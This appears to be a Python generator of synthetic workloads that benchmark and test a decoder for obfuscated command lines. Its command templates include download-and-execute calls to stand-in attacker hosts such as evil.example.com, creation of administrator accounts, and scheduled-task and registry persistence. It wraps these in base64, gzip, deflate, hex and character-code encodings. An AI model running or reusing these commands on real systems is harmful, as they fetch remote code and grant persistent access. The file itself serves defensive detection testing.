"""Seeded generator of decode workloads (one JSON string per line).

Kinds:
- payloads: command lines, about a third carrying an encoded payload (PowerShell -enc UTF-16LE,
  base64 text, base64 of gzip, nested base64, base64 zip), the rest plain. Used by the speed
  benchmarks (criterion and bench.py time the same rows).
- plain: log-like text with no encoded content (no run of 30 base64 characters).
- parity: labelled inputs for bench/decode/parity.py; with --meta-out a second JSONL file gets
  {"kind", "truth"} per row: the innermost plaintext a correct decoder must reveal.
"""

from __future__ import annotations

import argparse
import base64
import gzip
import io
import json
import random
import zipfile
import zlib

WORDS = [
    *(
        [
            "user",
            "admin",
            "login",
            "failed",
            "success",
            "process",
            "started",
            "stopped",
            "service",
            "network",
        ]
    ),
    *(
        [
            "connection",
            "from",
            "to",
            "port",
            "file",
            "read",
            "write",
            "deleted",
            "created",
            "registry",
            "key",
        ]
    ),
    *(
        [
            "value",
            "host",
            "server",
            "client",
            "request",
            "response",
            "error",
            "warning",
            "info",
            "debug",
        ]
    ),
    *(["session", "token", "audit", "policy", "group", "member"]),
]
COMMANDS = [
    "IEX (New-Object Net.WebClient).DownloadString('http://{host}/{name}.ps1')",
    "Invoke-WebRequest -Uri http://{host}/{name} -OutFile $env:TEMP\\{name}.exe",
    "Start-Process -FilePath C:\\Users\\Public\\{name}.exe -WindowStyle Hidden",
    "net user {name} P@ssw0rd{n} /add; net localgroup administrators {name} /add",
    "schtasks /create /tn {name} /tr C:\\ProgramData\\{name}.bat /sc minute /mo {n}",
    "certutil -urlcache -split -f http://{host}/{name}.txt C:\\Windows\\Temp\\{name}.txt",
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {name} /d {name}.exe",
]
HOSTS = ["10.1.2.3", "evil.example.com", "cdn.badsite.net", "192.168.56.101", "update-check.org"]


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def command(rng: random.Random) -> str:
    name = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(4, 9)))
    return rng.choice(COMMANDS).format(host=rng.choice(HOSTS), name=name, n=rng.randint(1, 99))


def plain_line(rng: random.Random) -> str:
    words = [rng.choice(WORDS) for _ in range(rng.randint(6, 18))]
    ts = f"2024-05-{rng.randint(1, 28):02}T{rng.randint(0, 23):02}:{rng.randint(0, 59):02}:00Z"
    return f"{ts} host{rng.randint(1, 50)} pid={rng.randint(100, 9999)} " + " ".join(words)


def zip_bytes(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = method
            z.writestr(info, data)
    return buf.getvalue()


def raw_deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def payload_row(rng: random.Random) -> tuple[str, str, str]:
    """(text, kind, truth) for one row of the parity / payload workloads."""
    cmd = command(rng)
    pick = rng.randrange(13)
    if pick == 0:
        return (
            f"powershell.exe -NoP -NonI -W Hidden -enc {b64(cmd.encode('utf-16-le'))}",
            "ps_enc_utf16",
            cmd,
        )
    if pick == 1:
        return f"cmd.exe /c echo {b64(cmd.encode())} > run.txt", "b64_text", cmd
    if pick == 2:
        gz = gzip.compress(cmd.encode(), mtime=0)
        return f"payload={b64(gz)} size={len(gz)}", "b64_gzip", cmd
    if pick == 3:
        inner = b64(cmd.encode())
        outer = b64(f"stage two: {inner} end".encode())
        return f"python -c exec({outer!r})", "b64_nested", cmd
    if pick == 4:
        z = zip_bytes([("run.ps1", cmd.encode()), ("notes.txt", b"harmless note text")])
        return f"attachment: {b64(z)}", "b64_zip", cmd
    if pick == 5:
        data = b64(zlib.compress(cmd.encode()))
        return f"blob {data}", "b64_zlib", cmd
    if pick == 6:
        data = b64(raw_deflate(cmd.encode()))
        text = (
            "IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream("
            f"[IO.MemoryStream][Convert]::FromBase64String('{data}'),"
            "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
        )
        return text, "b64_deflate", cmd
    if pick == 7:
        z = zip_bytes([("inner.gz", gzip.compress(cmd.encode(), mtime=0))])
        return f"bundle {b64(z)}", "b64_zip_gz", cmd
    if pick == 8:
        return f"echo {cmd.encode().hex()} | xxd -r -p | sh", "hex", cmd
    if pick == 9:
        codes = ",".join(str(ord(c)) for c in cmd)
        return f"&([char[]]({codes}) -join '')", "char_codes", cmd
    if pick == 10:
        enc = b64(cmd.encode())
        return f"{enc} again {enc}", "b64_duplicate", cmd
    if pick == 11:
        z = zip_bytes([("run.ps1", cmd.encode()), ("b.txt", b"second")], zipfile.ZIP_STORED)
        return f"stored {b64(z)}", "b64_zip_stored", cmd
    return plain_line(rng), "plain", ""


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--kind", choices=["payloads", "plain", "parity"], required=True)
    ap.add_argument("--rows", type=int, required=True)
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--out", required=True)
    ap.add_argument("--meta-out")
    args = ap.parse_args()
    rng = random.Random(args.seed)
    rows: list[tuple[str, str, str]] = []
    for _ in range(args.rows):
        if args.kind == "plain":
            rows.append((plain_line(rng), "plain", ""))
        elif args.kind == "payloads":
            if rng.random() < 0.35:
                rows.append(payload_row(rng))
            else:
                rows.append((f"{command(rng)} # {plain_line(rng)}", "plain", ""))
        else:
            rows.append(payload_row(rng))
    with open(args.out, "w") as f:
        for text, _, _ in rows:
            f.write(json.dumps(text) + "\n")
    if args.meta_out:
        with open(args.meta_out, "w") as f:
            for _, kind, truth in rows:
                f.write(json.dumps({"kind": kind, "truth": truth}) + "\n")


if __name__ == "__main__":
    main()
